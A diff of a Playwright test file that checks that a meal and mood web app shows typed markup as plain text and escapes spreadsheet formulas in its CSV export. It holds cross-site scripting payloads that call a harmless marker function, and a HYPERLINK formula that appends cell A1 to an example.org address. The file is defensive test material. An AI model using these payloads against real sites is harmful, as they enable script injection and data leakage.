@@ -10,18 +10,18 @@ import type { Page } from '@playwright/test';
 import { today } from '../time-zone.ts';
 import { expect, NOWHERE, openElsewhere, Person, test } from './fixtures.ts';
 
-/** Short enough for every field but the quantity. */
+/** Short enough for every field except the quantity. */
 const SHORT = `"><svg onload=hurt()><script>hurt()</script>{{hurt}}\u202e`;
-/** What page, address, style or template might take for more than text. */
+/** Markup that a page, URL, style or template might interpret. */
 const LONG = `${SHORT}</title></textarea></style><img src=x onerror=hurt()><style>*{display:none}</style><a href=javascript:hurt()>[x](javascript:hurt()) \${hurt()} <%= hurt() %> &lt;b&gt; <iframe srcdoc="<script>parent.hurt()</script>">`;
 const QUANTITY = '<b onclick=hurt()>';
-/** As long as an email may be, without the spaces that none may have. */
+/** The longest email; emails have no spaces. */
 const EMAIL = `"><img/src=x/onerror=hurt()>`;
 const FORMULA = '=HYPERLINK("https://example.org?"&A1,"look")';
 const PICTURE = `${NOWHERE}"onerror="hurt()`;
 const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 
-/** Notes that a script ran, whatever it does. */
+/** Records whether a script ran. */
 async function watch(page: Page): Promise<string[]> {
   const hurts: string[] = [];
   page.on('dialog', (dialog) => {
@@ -33,7 +33,7 @@ async function watch(page: Page): Promise<string[]> {
   return hurts;
 }
 
-/** Everything that the page says: texts, what stands in fields, and what is only said to some. */
+/** All texts of the page: visible ones, values of fields, and accessible names. */
 async function saidOn(page: Page): Promise<string> {
   return page.evaluate(() =>
     [
@@ -47,7 +47,7 @@ async function saidOn(page: Page): Promise<string> {
   );
 }
 
-/** What was typed stands there as text, and nothing of it has become a part of the page. */
+/** The typed text is shown as text, and none of it became part of the page. */
 async function expectText(page: Page, ...texts: readonly string[]): Promise<void> {
   await expect(page.getByRole('main')).toBeVisible();
   for (const text of texts)
@@ -84,7 +84,7 @@ test('typed markup is shown as text on every screen', async ({ page, request, br
   await person.call(saveMood, { body: { mood: 'Happy', note: FORMULA } });
   await person.call(saveMood, { body: { mood: 'Bored', note: `Note ${LONG}` } });
   await person.call(addGrocery, { body: { item_name: `Item ${SHORT}`, quantity: QUANTITY } });
-  // What was eaten lately is not suggested again.
+  // Meals eaten lately are not suggested again.
   const eaten = await person.call(createMeal, { body: { name: `Eaten ${SHORT}`, mood: 'Bored' } });
   await person.call(logMeal, { body: { meal_id: eaten.id } });
   await person.call(sendFeedback, { body: { subject: `Subject ${SHORT}`, message: `Message ${LONG}` } });
@@ -118,7 +118,7 @@ test('typed markup is shown as text on every screen', async ({ page, request, br
     await expectText(page, ...texts);
   }
 
-  // What opens, and what is said about what was done.
+  // Dialogs and messages.
   await page.goto('/mood-tracker');
   await page.getByRole('group', { name: 'Mood jar' }).getByRole('button').first().hover();
   await expectText(page, `Note ${LONG}`.slice(0, 15));
@@ -139,33 +139,33 @@ test('typed markup is shown as text on every screen', async ({ page, request, br
   await page.getByRole('searchbox', { name: 'Search' }).fill(LONG);
   await expectText(page, LONG.slice(0, MEAL_LIMITS.search));
 
-  // What stands in the address.
+  // Parameters in the URL.
   await page.goto(`/recipes?mood=${encodeURIComponent(LONG)}`);
   await expectText(page);
   expect(complaints).toEqual([]);
   for (const path of ['/', '/mood/', '/recipes/', '/meals/', '/admin/edit-meal/']) {
-    // Until the server has said no, so that nothing is complained about later.
+    // Waits for the refusal, so that its error is not reported later.
     await page.goto(path + encodeURIComponent(SHORT), { waitUntil: 'networkidle' });
     await expectText(page);
   }
-  // The server knows none of these, and says so; nothing else is complained about.
+  // The server knows none of these and answers with errors.
   expect(complaints.filter((line) => !/^4\d\d: |status of 4\d\d/.test(line))).toEqual([]);
   complaints.length = 0;
 
-  // What somebody else sees of it.
+  // What other users see of it.
   const friendsPage = await openElsewhere(browser, complaints);
   const friendsHurts = await watch(friendsPage);
   await friend.enter(friendsPage, '/friends');
   await friendsPage.getByRole('tab', { name: 'Friends' }).click();
   await expectText(friendsPage, person.username, `Eaten ${SHORT}`, `Cheer ${SHORT}`);
 
-  // No spreadsheet shall calculate it either.
+  // Spreadsheets must not calculate it either.
   const csv = await request.get(`/api${exportAccount.path}?format=csv`, {
     headers: { authorization: `Bearer ${person.session.token}` },
   });
   expect(await csv.text()).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
 
   expect([...hurts, ...friendsHurts]).toEqual([]);
-  // Other tests look at the same menu.
+  // Other tests use the same catalogue.
   for (const { id } of [meal, eaten]) await person.call(deleteMeal, { params: { id } });
 });
